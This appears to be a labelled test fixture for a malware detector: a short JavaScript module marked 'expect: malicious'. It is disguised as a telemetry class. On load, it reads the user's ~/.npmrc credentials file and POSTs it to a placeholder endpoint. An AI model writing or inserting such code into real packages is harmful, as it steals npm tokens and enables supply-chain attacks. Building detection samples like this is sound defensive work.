// expect: malicious
// A class whose constructor calls a method that reads ~/.npmrc and sends it; an instance is made at load.
const fs = require('fs'), os = require('os'), path = require('path');
class Telemetry {
  constructor(endpoint) { this.endpoint = endpoint; this.flush(); }
  config() { return fs.readFileSync(path.join(os.homedir(), '.npmrc'), 'utf8'); }
  flush() { fetch(this.endpoint, { method: 'POST', body: this.config() }); }
}
module.exports = new Telemetry('https://t.telemetry-sdk.example/v1');
